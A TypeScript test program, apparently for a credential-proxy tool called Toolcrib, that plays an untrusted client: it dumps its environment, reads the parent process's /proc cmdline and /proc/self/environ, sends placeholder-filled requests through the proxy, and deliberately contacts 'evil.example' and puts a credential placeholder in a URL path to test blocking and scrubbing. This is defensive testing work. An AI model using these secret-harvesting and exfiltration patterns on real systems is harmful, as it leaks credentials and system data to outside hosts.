/**
 * Entry: a program that uses no Toolcrib code and only reads its environment. It sends
 * requests through `HTTPS_PROXY` with the placeholders of its environment, over
 * HTTP/1.1, HTTP/2 and raw sockets. It writes every received byte to a file, with its
 * arguments, its environment and the readable data of its parent process.
 *
 * Arguments: a plan (JSON, see `ForeignPlan`).
 */

import { closeSync, openSync, readFileSync, writeSync } from "node:fs";
import { connect as connectHttp2 } from "node:http2";
import { Agent, request as httpsRequest } from "node:https";
import { connect as connectTcp, type Socket } from "node:net";
import { connect as connectTls, type TLSSocket } from "node:tls";
import { brotliDecompressSync, gunzipSync, inflateRawSync, inflateSync, zstdDecompressSync } from "node:zlib";

/** The requests to send. */
export interface ForeignPlan {
  readonly file: string;
  readonly hosts: readonly string[];
  /** Headers, prefix of the path, and query; `{ID}` is the placeholder of a credential. */
  readonly headers: { readonly [name: string]: string };
  readonly pathPrefix: string;
  readonly query: string;
  /** The mode of each request. Modes that start with `odd-` use raw sockets. */
  readonly modes: readonly string[];
}

const plan = JSON.parse(process.argv[2] as string) as ForeignPlan;
const proxy = new URL(process.env["HTTPS_PROXY"] as string);
const file = openSync(plan.file, "a");
let scrubbed = 0;

function keep(bytes: Uint8Array | string): void {
  writeSync(file, typeof bytes === "string" ? Buffer.from(bytes) : bytes);
}

/** Replaces `{ID}` by the placeholder of the credential. */
function fill(text: string): string {
  return text.replace(/\{(\w+)\}/g, (_, id: string) => process.env[`TOOLCRIB_CREDENTIAL_${id}`] ?? "");
}

const headers = Object.fromEntries(Object.entries(plan.headers).map(([name, value]) => [name, fill(value)]));
const pathOf = (mode: string): string =>
  `${fill(plan.pathPrefix)}/ask/${encodeURIComponent(mode)}${fill(plan.query)}`;

function openTunnel(host: string): Promise<Socket> {
  return new Promise((resolve, reject) => {
    const socket = connectTcp(Number(proxy.port), proxy.hostname);
    socket.on("error", reject);
    socket.write(`CONNECT ${host}:443 HTTP/1.1\r\nHost: ${host}:443\r\n\r\n`);
    socket.once("data", (answer) => {
      keep(answer);
      if (answer.toString("latin1").startsWith("HTTP/1.1 200")) resolve(socket);
      else reject(new Error("no tunnel"));
    });
  });
}

async function openTls(host: string, protocol: string): Promise<TLSSocket> {
  const socket = await openTunnel(host);
  return new Promise((resolve, reject) => {
    const secure = connectTls({ socket, servername: host, ALPNProtocols: [protocol] }, () => resolve(secure));
    secure.on("error", reject);
  });
}

class TunnelAgent extends Agent {
  override createConnection(
    { host }: { readonly host?: string | null },
    callback?: (error: Error | null, socket: TLSSocket) => void,
  ): undefined {
    openTls(host ?? "", "http/1.1").then(
      (socket) => callback?.(null, socket),
      (error: Error) => callback?.(error, undefined as never),
    );
    return undefined;
  }
}

const decoders: { readonly [coding: string]: (bytes: Buffer) => Buffer } = {
  gzip: gunzipSync,
  br: brotliDecompressSync,
  zstd: zstdDecompressSync,
  deflate: (bytes) => (((bytes[0] ?? 8) & 15) === 8 ? inflateSync(bytes) : inflateRawSync(bytes)),
};

/** Keeps the head and the body of a response, the body both as received and decoded. */
function keepAnswer(head: string, coding: string | undefined, pieces: readonly Buffer[]): void {
  const body: Buffer = Buffer.concat(pieces);
  keep(`\n${head}\n\n`);
  keep(body);
  let plain: Buffer = body;
  try {
    for (const name of (coding ?? "").split(",").reverse()) plain = decoders[name.trim()]?.(plain) ?? plain;
  } catch (error) {
    keep(String(error));
  }
  if (plain !== body) keep(plain);
  if (plain.includes("toolcrib-ph-") || head.includes("toolcrib-ph-")) scrubbed += 1;
}

const agent = new TunnelAgent({ keepAlive: true, maxSockets: 6 });

function askHttp1(host: string, mode: string): Promise<void> {
  return new Promise((resolve) => {
    const fail = (error: unknown): void => {
      keep(error instanceof Error ? `${error.stack}` : String(error));
      resolve();
    };
    const request = httpsRequest({ host, path: pathOf(mode), headers, agent }, (response) => {
      const pieces: Buffer[] = [];
      response.on("data", (piece: Buffer) => pieces.push(piece));
      response.on("error", fail);
      response.on("close", () => {
        const { statusMessage, rawHeaders, rawTrailers } = response;
        const head = [statusMessage, ...rawHeaders, ...rawTrailers].join("\n");
        keepAnswer(head, response.headers["content-encoding"], pieces);
        resolve();
      });
    });
    request.on("information", (info) => keep(JSON.stringify(info)));
    request.on("error", fail);
    request.end();
  });
}

async function askHttp2(host: string, modes: readonly string[]): Promise<void> {
  const socket = await openTls(host, "h2");
  const session = connectHttp2(`https://${host}`, { createConnection: () => socket });
  session.on("error", (error) => keep(`${error.stack}`));
  await Promise.all(
    modes.map(
      (mode) =>
        new Promise<void>((resolve) => {
          const stream = session.request({ ":path": pathOf(mode), ...lowerCased(headers) });
          const pieces: Buffer[] = [];
          let head: object = {};
          stream.on("response", (fields) => {
            head = fields;
          });
          stream.on("headers", (fields) => keep(JSON.stringify(fields)));
          stream.on("trailers", (fields) => keep(JSON.stringify(fields)));
          stream.on("data", (piece: Buffer) => pieces.push(piece));
          stream.on("error", (error) => keep(`${error.stack}`));
          stream.on("close", () => {
            const coding = (head as { readonly "content-encoding"?: string })["content-encoding"];
            keepAnswer(JSON.stringify(head), coding, pieces);
            resolve();
          });
          stream.end();
        }),
    ),
  );
  await new Promise<void>((resolve) => session.close(resolve));
}

function lowerCased(fields: { readonly [name: string]: string }): { readonly [name: string]: string } {
  return Object.fromEntries(Object.entries(fields).map(([name, value]) => [name.toLowerCase(), value]));
}

/** Reads every byte of the response. Stops after a short time if the response never ends. */
async function askByHand(host: string, mode: string): Promise<void> {
  const socket = await openTls(host, "http/1.1");
  const lines = Object.entries({ host, ...headers, connection: "close" }).map(
    ([name, value]) => `${name}: ${value}`,
  );
  socket.write(`GET ${pathOf(mode)} HTTP/1.1\r\n${lines.join("\r\n")}\r\n\r\n`);
  await new Promise<void>((resolve) => {
    const timer = setTimeout(() => socket.destroy(), 600);
    socket.on("data", keep);
    socket.on("error", (error) => keep(`${error.stack}`));
    socket.on("close", () => {
      clearTimeout(timer);
      resolve();
    });
  });
}

keep(JSON.stringify([process.argv, process.env, process.report.getReport()]));
for (const name of [`/proc/${process.ppid}/cmdline`, "/proc/self/environ"]) {
  try {
    keep(readFileSync(name));
  } catch {
    // This system has no /proc.
  }
}
const hostAt = (index: number): string => plan.hosts[index % plan.hosts.length] as string;
const modes = [...plan.modes.entries()];
const jobs = modes.filter(([at, mode]) => mode.startsWith("odd-") || at % 3 !== 0).values();
const streams = modes
  .filter(([at, mode]) => !mode.startsWith("odd-") && at % 3 === 0)
  .map(([, mode]) => mode);
const work = async (): Promise<void> => {
  for (const [at, mode] of jobs) {
    if (mode.startsWith("odd-")) await askByHand(hostAt(at), mode).catch((error) => keep(`${error.stack}`));
    else await askHttp1(hostAt(at), mode);
  }
};
await Promise.all([
  ...Array.from({ length: 8 }, work),
  (async () => {
    for (let at = 0; at < streams.length; at += 20)
      await askHttp2(hostAt(at / 20), streams.slice(at, at + 20));
  })(),
]);
// A host that is not allowed, and a placeholder in a place that is not allowed.
await askByHand("evil.example", "landing").catch((error) => keep(`${error.stack}`));
const [known] = Object.entries(process.env).filter(([name]) => name.startsWith("TOOLCRIB_CREDENTIAL_"));
await askHttp1(hostAt(0), `landing-${known?.[1]}`);
agent.destroy();
closeSync(file);
process.stdout.write(JSON.stringify({ scrubbed, argv: process.argv, env: process.env }));
